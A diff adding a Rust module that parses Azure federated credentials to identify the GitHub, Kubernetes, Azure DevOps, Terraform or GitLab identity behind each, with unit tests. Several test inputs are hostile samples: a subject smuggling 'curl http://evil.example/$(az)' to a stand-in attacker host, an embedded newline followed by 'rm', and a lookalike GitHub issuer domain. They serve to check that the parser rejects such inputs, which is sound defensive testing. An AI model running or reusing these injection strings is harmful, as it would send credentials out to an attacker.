@@ -1,0 +1,239 @@
+//! Activities: who stands behind a federated credential: each known form of subject by the grammar of its issuer.
+//! What does not follow one was not understood; it is shown as it is, and no command is made of it. Pure.
+
+use crate::surfaces::issuer::{devops, expression, github, pipelines};
+
+use crate::commands::names::{is_host, is_label, is_subdomain};
+use crate::relocate::facts::FederatedCredential;
+
+/// The outside system that a federated credential lets in.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub(crate) enum Outside {
+    /// A repository of GitHub.
+    GitHub {
+        /// Its server, where that is not github.com.
+        host: Option<String>,
+        /// `owner/name`.
+        repository: String,
+        /// Its number, which stays when it is renamed.
+        number: Option<String>,
+        /// The environment, where the subject names one.
+        environment: Option<String>,
+    },
+    /// A service account of a Kubernetes cluster.
+    Kubernetes {
+        /// What issues the cluster's tokens.
+        issuer: String,
+        /// A DNS label.
+        namespace: String,
+        /// A DNS subdomain.
+        account: String,
+    },
+    /// A service connection of Azure DevOps.
+    AzureDevOps {
+        /// `organization/project/name`, or the ids of the organization and the connection.
+        connection: String,
+    },
+    /// A workspace of HCP Terraform, or of Terraform Enterprise.
+    Terraform {
+        /// Its server.
+        host: String,
+        /// Its organization.
+        organization: String,
+        /// Its name.
+        workspace: String,
+    },
+    /// A project of GitLab.
+    GitLab {
+        /// Its server.
+        host: String,
+        /// `group/project`.
+        project: String,
+    },
+    /// Somebody else, or somebody whose subject follows none of these grammars.
+    Other {
+        /// Who issues the tokens.
+        issuer: String,
+        /// The subject or the expression, as it stands.
+        subject: String,
+    },
+}
+
+/// Who stands behind a federated credential.
+pub(crate) fn of(credential: &FederatedCredential) -> Outside {
+    understood(credential).unwrap_or_else(|| Outside::Other {
+        issuer: credential.issuer.clone(),
+        subject: text(credential).to_owned(),
+    })
+}
+
+/// What a credential says of the tokens that it takes.
+fn text(credential: &FederatedCredential) -> &str {
+    let claims = credential.claims_matching.as_ref().map(|claims| claims.value.as_str());
+    credential.subject.as_deref().or(claims).unwrap_or_default()
+}
+
+fn understood(credential: &FederatedCredential) -> Option<Outside> {
+    let (host, path) = issuer(&credential.issuer)?;
+    let pattern;
+    let subject = match (&credential.subject, &credential.claims_matching) {
+        (Some(subject), _) => subject.as_str(),
+        (None, Some(claims)) => {
+            pattern = expression::subject(&claims.value)?;
+            pattern.as_str()
+        }
+        (None, None) => return None,
+    };
+    if let Some(server) = github::server(host, path) {
+        return github::repository(server, subject);
+    }
+    if let Some(connection) = devops::connection(host, path, subject) {
+        return Some(Outside::AzureDevOps { connection });
+    }
+    if let Some((namespace, account)) = service_account(subject) {
+        let issuer = credential.issuer.clone();
+        return Some(Outside::Kubernetes { issuer, namespace: namespace.into(), account: account.into() });
+    }
+    if !path.is_empty() {
+        return None;
+    }
+    pipelines::workspace(host, subject).or_else(|| pipelines::project(host, subject))
+}
+
+/// The host and the path of an issuer, which is an address without anything else.
+pub(crate) fn issuer(issuer: &str) -> Option<(&str, &str)> {
+    let rest = issuer.strip_prefix("https://")?;
+    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
+    is_host(host).then_some((host, path.trim_end_matches('/')))
+}
+
+/// A service account of Kubernetes: its namespace and its name.
+/// Source: <https://kubernetes.io/docs/reference/access-authn-authz/service-accounts-admin/>
+fn service_account(subject: &str) -> Option<(&str, &str)> {
+    let (namespace, account) = subject.strip_prefix("system:serviceaccount:")?.split_once(':')?;
+    (is_label(namespace) && is_subdomain(account)).then_some((namespace, account))
+}
+
+/// The members of a subject that is a list of names and values with colons between, as far as each is whole; `None`
+/// where a name is not one of these. A value that ends the text may be cut in a pattern: `*` and `?` end it.
+pub(crate) fn pairs<'a>(
+    subject: &'a str,
+    named: impl Fn(&str) -> bool,
+    alone: &[&str],
+) -> Option<Vec<(&'a str, &'a str)>> {
+    let mut out = Vec::new();
+    let mut parts = subject.split(':').peekable();
+    while let Some(name) = parts.next() {
+        if alone.contains(&name) {
+            out.push((name, ""));
+        } else if named(name) {
+            out.push((name, parts.next().filter(|value| !value.is_empty())?));
+        } else {
+            // A pattern may leave the rest open.
+            let open = name == "*" && parts.peek().is_none() && !out.is_empty();
+            return open.then_some(out);
+        }
+    }
+    Some(out)
+}
+
+/// The one value of a name; `None` where it is not there, or twice.
+pub(crate) fn one<'a>(pairs: &[(&'a str, &'a str)], name: &str) -> Option<&'a str> {
+    let mut values = pairs.iter().filter(|(n, _)| *n == name).map(|(_, value)| *value);
+    let value = values.next()?;
+    values.next().is_none().then_some(value)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::relocate::facts::ClaimsMatching;
+
+    fn credential(issuer: &str, subject: &str) -> FederatedCredential {
+        FederatedCredential {
+            name: "n".into(),
+            issuer: issuer.into(),
+            subject: Some(subject.into()),
+            audiences: vec!["api://AzureADTokenExchange".into()],
+            claims_matching: None,
+            unknown: std::collections::BTreeSet::new(),
+        }
+    }
+
+    fn is_shown(issuer: &str, subject: &str) -> bool {
+        of(&credential(issuer, subject)) == Outside::Other { issuer: issuer.into(), subject: subject.into() }
+    }
+
+    #[test]
+    fn a_service_account_is_one_only_by_the_names_of_kubernetes() {
+        let issuer = "https://westeurope.oic.prod-aks.azure.com/t/c/";
+        let found = of(&credential(issuer, "system:serviceaccount:pay:w.x-1"));
+        let [namespace, account] = ["pay", "w.x-1"].map(String::from);
+        assert_eq!(found, Outside::Kubernetes { issuer: issuer.into(), namespace, account });
+        for subject in [
+            "system:serviceaccount:pay:--all",
+            "system:serviceaccount:-n:x",
+            "system:serviceaccount:pay:a b",
+            "system:serviceaccount:pay:a\nrm",
+            "system:serviceaccount:pay",
+            "system:serviceaccount:pay:a:b",
+            "system:serviceaccount::a",
+            "system:serviceaccount:pay:*",
+        ] {
+            assert!(is_shown(issuer, subject), "{subject:?}");
+        }
+    }
+
+    #[test]
+    fn an_expression_is_understood_where_it_says_of_whom_and_shown_where_it_does_not() {
+        let flexible = |issuer: &str, value: &str| {
+            let claims = ClaimsMatching { value: value.into(), language_version: 1 };
+            of(&FederatedCredential {
+                subject: None,
+                claims_matching: Some(claims),
+                unknown: std::collections::BTreeSet::new(),
+                ..credential(issuer, "")
+            })
+        };
+        let github = "https://token.actions.githubusercontent.com";
+        let shop = flexible(github, "claims['sub'] matches 'repo:contoso/shop:ref:refs/heads/*'");
+        assert!(
+            matches!(&shop, Outside::GitHub { repository, environment: None, .. } if repository == "contoso/shop")
+        );
+        let both = "claims['sub'] eq 'repo:o/r:environment:prod' and claims['job_workflow_ref'] matches 'o/*@refs/heads/main'";
+        assert!(
+            matches!(flexible(github, both), Outside::GitHub { environment: Some(e), .. } if e == "prod")
+        );
+        assert!(matches!(flexible(github, "claims['sub'] matches 'repo:o/r:*'"), Outside::GitHub { .. }));
+        let terraform = "claims['sub'] matches 'organization:o:project:p:workspace:w:run_phase:*'";
+        assert!(matches!(flexible("https://app.terraform.io", terraform), Outside::Terraform { .. }));
+        for value in [
+            "claims['sub'] matches 'repo:contoso/*:ref:refs/heads/main'",
+            "claims['sub'] matches 'repo:o/r:environment:*'",
+            "claims['job_workflow_ref'] matches 'o/r/.github/workflows/*'",
+            "claims['sub'] matches 'repo:o/r:ref:x' or claims['sub'] matches 'repo:o/s:ref:x'",
+            "claims['sub'] eq 'repo:o/r:ref:x' and claims['sub'] eq 'repo:o/s:ref:x'",
+            "claims['sub'] matches \"repo:o/r:ref:x\"",
+            "",
+            "x",
+        ] {
+            assert!(
+                matches!(flexible(github, value), Outside::Other { subject, .. } if subject == value),
+                "{value}"
+            );
+        }
+    }
+
+    #[test]
+    fn what_is_no_address_or_of_nobody_known_is_shown() {
+        for (issuer, subject) in [
+            ("https://x.example/k8s", "sc://org/proj/conn\ncurl http://evil.example/$(az)\n"),
+            ("http://token.actions.githubusercontent.com", "repo:o/r:pull_request"),
+            ("https://accounts.google.com", "1234"),
+            ("https://token.actions.githubusercontent.com.evil.example", "repo:o/r:pull_request"),
+            ("not an address", "repo:o/r:pull_request"),
+        ] {
+            assert!(is_shown(issuer, subject), "{issuer} {subject}");
+        }
+    }
+}
